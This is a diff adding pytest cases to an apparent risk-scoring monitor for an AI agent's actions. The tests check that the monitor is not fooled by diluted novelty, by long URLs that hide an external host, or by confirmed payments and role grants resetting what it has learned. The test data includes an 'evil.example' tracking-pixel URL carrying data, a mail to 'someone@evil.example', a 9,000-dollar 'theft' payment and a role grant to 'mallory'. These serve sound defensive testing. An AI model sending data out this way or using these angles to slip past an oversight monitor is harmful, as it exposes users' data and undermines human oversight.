@@ -5,7 +5,7 @@ from collections.abc import Iterable
 import pytest
 
 from events.risk.scoring.contract import Context, Event, FinancialScope, RiskVerdict
-from events.risk.scoring.habits.learning import teach
+from events.risk.scoring.habits.learning import teach, teach_late, unlearn
 from events.risk.scoring.habits.state import AgentState, encode_state
 from events.risk.scoring.habits.tables import digest
 from events.risk.scoring.model import fold
@@ -292,3 +292,82 @@ def test_a_refused_call_makes_the_next_ones_weigh_more(mature: AgentState) -> No
 
     assert "repeated_failures" in {reason.name for reason in again.reasons}
     assert again.score > before.score
+
+
+def test_many_new_places_in_one_event_count_once_in_the_rate_of_novelty(mature: AgentState) -> None:
+    state = mature.changeable()
+    context = Context(home_domain="acme.example")
+    invented = {"tool": "send_email", "to": [f"new{n}@acme.example" for n in range(32)]}
+    attack = {"tool": "send_email", "to": "someone@evil.example"}
+    fold(state, Event("api_call", MONDAY, invented), context)
+
+    for day in range(1, 4):
+        fold(state, Event("data_access", MONDAY + day * DAY, READ.details), context)
+
+    assert after(state, "api_call", attack, context).band == "medium"
+
+
+@pytest.mark.parametrize("action_type", ["data_access", "message_signed", "authentication_attempt"])
+def test_uses_that_need_no_target_do_not_make_leaving_it_out_a_habit(
+    mature: AgentState, action_type: str
+) -> None:
+    state = mature.changeable()
+    context = Context(home_domain="acme.example")
+
+    play(state, [Event(action_type, MONDAY + n * MINUTE, {"tool": "send_email"}) for n in range(60)], context)
+
+    assert after(state, "api_call", {"tool": "send_email"}, context).band == "medium"
+
+
+@pytest.mark.parametrize("length", [10, 300, 9_000])
+def test_what_a_url_carries_does_not_hide_where_it_goes(mature: AgentState, length: int) -> None:
+    url = "https://evil.example/pixel?d=" + "a" * length
+    details = {"tool": "send_email", "to": "colleague@acme.example", "image": url}
+
+    told = after(mature, "api_call", details, Context(home_domain="acme.example"))
+
+    assert "external_host" in {reason.name for reason in told.reasons}
+
+
+def test_a_long_text_that_begins_with_a_url_names_no_place(mature: AgentState) -> None:
+    text = "https://evil.example is where they say that " + "it is " * 100
+    details = {"tool": "send_email", "to": "colleague@acme.example", "remark": text}
+
+    assert after(mature, "api_call", details, Context(home_domain="acme.example")).band == "low"
+
+
+def test_a_confirmed_payment_to_a_known_payee_is_no_sum_that_it_got_before(mature: AgentState) -> None:
+    ruined, spared = mature.changeable(), mature.changeable()
+    theft = Event("transaction_initiated", MONDAY, PAY | {"recipient": "DE01", "amount_usd": 9_000.0})
+    for state in (ruined, spared):
+        fold(state, theft, UNKNOWN)
+
+    unlearn(spared, theft, [], was_learned=False)
+
+    again = Event("transaction_initiated", MONDAY + 8 * DAY, theft.details)
+    assert assess(ruined, again, UNKNOWN).score < assess(spared, again, UNKNOWN).score
+
+
+def test_a_confirmed_act_begins_its_probation_anew(mature: AgentState) -> None:
+    state = mature.changeable()
+    act = {"tool": "grant_role", "user": "mallory"}
+    events = [Event("data_mutation", MONDAY + day * DAY, act) for day in (0, 1, 3)]
+    bands = [verdict.band for verdict in play(state, events[:2])]
+
+    unlearn(state, events[1], [], was_learned=False)
+    bands += [verdict.band for verdict in play(state, events[2:])]
+
+    assert bands == ["medium"] * 3
+    assert state.acts.names == mature.acts.names
+
+
+def test_a_dismissal_does_not_forget_how_many_new_places_the_last_hour_had(mature: AgentState) -> None:
+    state = mature.changeable()
+    play(state, [Event("transaction_initiated", MONDAY + n * MINUTE, PAY | {"recipient": f"XX{n}"})
+                 for n in range(6)])  # fmt: skip
+    counted = state.hour_new
+
+    teach_late(state, Event("api_call", MONDAY - 10 * DAY, {"tool": "send_email", "to": "x@acme.example"}))
+
+    assert counted > 5
+    assert state.hour_new == counted
